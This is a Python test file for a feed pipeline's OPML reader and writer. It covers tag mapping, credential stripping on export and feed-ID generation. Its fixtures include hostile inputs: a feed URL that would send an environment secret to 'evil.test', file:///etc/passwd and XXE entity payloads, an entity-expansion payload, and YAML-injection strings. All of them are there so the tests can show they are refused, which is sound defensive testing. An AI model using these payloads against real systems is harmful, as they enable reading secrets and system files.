"""OPML in and out."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.errors import ConfigError, UsageError
from pipeline.ports import FeedSource
from pipeline.settings import FeedsFile
from pipeline.sources.feeds.feed_ids import feed_id
from pipeline.sources.feeds.opml import add_feeds, read_opml, write_opml
from pipeline.sources.read.charset import without_controls
from pipeline.yaml_documents import Document, read_document, validated

OPML = """<?xml version="1.0" encoding="UTF-8"?><opml version="1.0"><head><title>x</title></head><body>
<outline text="World"><outline text="Europe">
  <outline type="rss" text="Zürich Herald" xmlUrl="https://herald.test/rss" language="de-CH"/></outline>
  <outline text="Lake &amp; River" title="Lake &amp; River" xmlUrl="http://lake.test/feed" category="/water/lakes,ships"/>
</outline>
<outline text="Zürich Herald" xmlUrl="https://herald.test/other"/>
<outline text="again" xmlUrl="https://herald.test/rss"/>
<outline text="odd" xmlUrl="file:///etc/passwd"/><outline text="thief" xmlUrl="https://evil.test/${WIREWATCH_SMTP}"/>
<outline text="only a page" htmlUrl="https://page.test/"/></body></opml>"""  # noqa: E501


def test_folders_are_tags():
    feeds = read_opml(OPML.encode(), "x.opml")
    assert feeds == [
        FeedSource("zurich-herald", "https://herald.test/rss", "Zürich Herald", "de", ("World", "Europe")),
        FeedSource(
            "lake-river", "http://lake.test/feed", "Lake & River", "", ("World", "water", "lakes", "ships")
        ),
        FeedSource("zurich-herald-other", "https://herald.test/other", "Zürich Herald"),
    ]


def test_no_feed_is_imported_that_would_send_the_environment():
    assert "evil" not in repr(read_opml(OPML.encode(), "x.opml"))


def test_out_and_in_again():
    feeds = read_opml(OPML.encode("utf-16"), "x.opml")
    back = read_opml(write_opml(feeds).encode(), "x")
    assert {(f.url, f.outlet, f.language, f.tags) for f in back} == {
        (f.url, f.outlet, f.language, f.tags) for f in feeds
    }


def test_no_part_that_came_from_the_environment_goes_out():
    feeds = [
        FeedSource("a", "https://a.test/k3y/rss?x=k3y&page=2", secrets=("k3y",)),
        FeedSource("b", "https://me:k3y@b.test/rss", secrets=("me:k3y",)),
    ]
    text = write_opml(feeds)
    assert "k3y" not in text
    assert "https://a.test/…/rss?page=2" in text
    assert "https://b.test/rss" in text


def test_no_credentials_go_out():
    feeds = [
        FeedSource("a", "https://me:pa55@a.test/feed?api_key=k3y&page=1"),
        FeedSource("b", "https://b.test/feed?token=t0ken"),
    ]
    text = write_opml(feeds)
    assert "https://a.test/feed?page=1" in text
    assert 'xmlUrl="https://b.test/feed"' in text
    assert not any(secret in text for secret in ("pa55", "k3y", "t0ken", "me:"))


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml",
        b"<opml><body/></opml>",
        b"<html><body><p>x</p></body></html>",
        b"\x00\xff\xfe",
        b'<!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><opml><body><outline text="&x;" xmlUrl="http://a.test"/></body></opml>',
        b'<!DOCTYPE o [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;">]><opml><body><outline xmlUrl="http://a.test/&b;"/></body></opml>',
    ],
)
def test_what_is_no_opml_is_one_line(body):
    with pytest.raises(UsageError, match=r"^x\.opml: ") as caught:
        read_opml(body, "x.opml")
    assert "\n" not in str(caught.value)


@settings(deadline=None)  # the first id reads the list of public suffixes
@given(st.text(max_size=40), st.lists(st.text(max_size=10), max_size=3))
def test_any_title_makes_a_valid_id(title, tags):
    feed = FeedSource(
        "x", "https://a.test/f", without_controls(title), "", tuple(without_controls(tag) for tag in tags)
    )
    (back,) = read_opml(write_opml([feed]).encode(), "x")
    validated(FeedsFile, Document("x", {"feeds": [{"id": back.id, "url": back.url}]}, {}))


# -- into feeds.yaml -------------------------------------------------------------------------------------

YAML = """# our feeds
feeds:
  - id: herald   # the best
    url: https://user:${PW}@herald.test/rss
"""


def in_file(path):
    return validated(FeedsFile, read_document(path)).feeds


def test_feeds_are_appended_and_comments_stay(tmp_path):
    target = tmp_path / "feeds.yaml"
    target.write_text(YAML)
    existing = [
        FeedSource("herald", "https://user:secret@herald.test/rss"),
        FeedSource("lake-river", "https://x.test/"),
    ]
    added = add_feeds(target, read_opml(OPML.encode(), "x"), existing)
    assert [feed.id for feed in added] == ["lake-river-ships", "zurich-herald-other"]
    text = target.read_text()
    assert text.startswith(YAML)
    assert "secret" not in text
    assert [entry.id for entry in in_file(target)] == ["herald", "lake-river-ships", "zurich-herald-other"]
    assert in_file(target)[1].tags == ("World", "water", "lakes", "ships")
    assert add_feeds(target, read_opml(OPML.encode(), "x"), [*existing, *added]) == []
    assert sorted(path.name for path in tmp_path.iterdir()) == ["feeds.yaml"]


@pytest.mark.parametrize(
    "text",
    [
        "feeds: []\n",
        "feeds:\n",
        "feeds: [] # none yet\n",
        "# x\nfeeds:\n# later\n",
        "feeds:\n- id: a\n  url: https://a.test/\n",
        "feeds:\n    - {id: a, url: 'https://a.test/'}\n",
    ],
)
def test_every_way_to_write_a_list(tmp_path, text):
    target = tmp_path / "feeds.yaml"
    target.write_text(text)
    add_feeds(target, read_opml(OPML.encode(), "x"), [])
    assert [entry.id for entry in in_file(target)][-3:] == [
        "zurich-herald",
        "lake-river",
        "zurich-herald-other",
    ]


def test_a_file_that_cannot_be_appended_to_stays_as_it_was(tmp_path):
    target = tmp_path / "feeds.yaml"
    for text in ("feeds: [{id: a, url: 'https://a.test/'}]\n", "feeds: {\n"):
        target.write_text(text)
        with pytest.raises(ConfigError, match=r"feeds\.yaml"):
            add_feeds(target, read_opml(OPML.encode(), "x"), [])
        assert target.read_text() == text


def test_a_missing_file_is_made_unless_feeds_come_from_elsewhere(tmp_path):
    target = tmp_path / "feeds.yaml"
    with pytest.raises(ConfigError, match="base folder"):
        add_feeds(target, read_opml(OPML.encode(), "x"), [FeedSource("a", "https://a.test/")])
    assert len(add_feeds(target, read_opml(OPML.encode(), "x"), [])) == 3
    assert len(in_file(target)) == 3


def test_values_cannot_break_out_of_yaml(tmp_path):
    target = tmp_path / "feeds.yaml"
    target.write_text("feeds: []\n")
    evil = FeedSource(
        "x", 'https://a.test/"\n  enabled: false', 'a"\n- id: b\n  url: c', "", ("]", "\\", "\u2028")
    )
    add_feeds(target, [evil], [])
    (entry,) = in_file(target)
    assert (entry.url, entry.outlet, entry.tags, entry.enabled) == (evil.url, evil.outlet, evil.tags, True)


def test_a_feed_in_several_folders_has_the_tags_of_all():
    outline = '<outline text="Ferry Times - Sport" xmlUrl="https://ferrytimes.test/sport.rss"/>'
    body = f'<outline text="Sea">{outline}</outline><outline text="Isles">{outline}</outline>'
    (feed,) = read_opml(f'<opml version="2.0"><body>{body}</body></opml>'.encode(), "a.opml")
    assert feed.tags == ("Sea", "Isles")
    assert feed.outlet == "Ferry Times"


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE opml SYSTEM "opml.dtd">',
        "<!-- by hand -->\n<!doctype opml>",
        "<!DOCTYPE opml PUBLIC 'a' 'b'>",
    ],
)
def test_a_doctype_that_declares_nothing_is_passed_over(doctype):
    body = '<opml><body><outline xmlUrl="https://a.test/rss"/></body></opml>'
    assert len(read_opml(f'<?xml version="1.0"?>{doctype}{body}'.encode(), "a.opml")) == 1


def test_a_doctype_that_declares_entities_is_refused():
    body = '<!DOCTYPE opml [<!ENTITY a "b">]><opml><body><outline xmlUrl="https://a.test/&a;"/></body></opml>'
    with pytest.raises(UsageError):
        read_opml(body.encode(), "a.opml")


@pytest.mark.parametrize(
    ("attributes", "name"),
    [
        ('title="" text="Port Times: Ships" xmlUrl="https://porttimes.test/rss?id=9"', "port-times-ships"),
        ('text="https://harbour.test/rss" xmlUrl="https://harbour.test/rss"', "harbour"),
        ('text="" xmlUrl="http://127.0.0.1:8001/feeds/sport.xml"', "sport"),
        ('text="127.0.0.1" xmlUrl="http://127.0.0.1:8001/"', "feed"),
        ('text="ニュース" xmlUrl="https://www.minato.test/world/rss.xml"', "minato-world"),
        (
            'text="Der Anzeiger | Nachrichten, Hintergründe und Debatten" xmlUrl="https://anzeiger.test/rss"',
            "der-anzeiger",
        ),
    ],
)  # fmt: skip
def test_an_id_says_outlet_and_section(attributes, name):
    text = f'<opml version="2.0"><body><outline type="rss" {attributes}/></body></opml>'
    (feed,) = read_opml(text.encode(), "a.opml")
    assert feed.id == name


def test_feeds_of_one_outlet_are_told_apart_by_what_they_are_about():
    paths = ("edition.rss", "edition_asia.rss", "edition_sport.rss", "edition_sport.rss?page=two")
    lines = "".join(f'<outline text="Coast News" xmlUrl="http://rss.coast.test/{path}"/>' for path in paths)
    feeds = read_opml(f'<opml version="2.0"><body>{lines}</body></opml>'.encode(), "a.opml")
    assert [feed.id for feed in feeds] == [
        "coast-news-edition", "coast-news-edition-asia", "coast-news-edition-sport",
        "coast-news-edition-sport-two",
    ]  # fmt: skip


_TEXT = st.text(st.sampled_from("abz ÄéЖ中1.-:|/'<&\u200b"), max_size=12)


@settings(deadline=None)
@given(st.lists(st.tuples(_TEXT, _TEXT, _TEXT), max_size=8))
def test_ids_are_always_allowed_and_different(rows):
    taken: set[str] = set()
    for outlet, title, path in rows:
        name = feed_id(outlet, title, f"https://a.test/{path}", (), taken)
        assert re.fullmatch(r"[a-z0-9][a-z0-9._-]{0,79}", name)
        assert name not in taken
        taken.add(name)


def test_what_programs_write_against_the_letter_is_read():
    body = (
        '<OPML><BODY><outline text="Coast"><outline text="A" xmlurl="https://a.test/rss?x=1&y=2"/>'
        '<OUTLINE TEXT="B" XMLURL="FEED://b.test/Atom"/><outline text="C" xmlUrl="feed:HTTPS://c.test/&amp;z"/>'
        '<outline text="D" xmlUrl=" HTTPS://Me:Pw@d.test/"/>'
        "</outline></BODY></OPML>"
    )
    feeds = read_opml(body.encode(), "odd.opml")
    assert [feed.url for feed in feeds] == [
        "https://a.test/rss?x=1&y=2",
        "http://b.test/Atom",
        "https://c.test/&z",
        "https://Me:Pw@d.test/",
    ]
    assert {feed.tags for feed in feeds} == {("Coast",)}
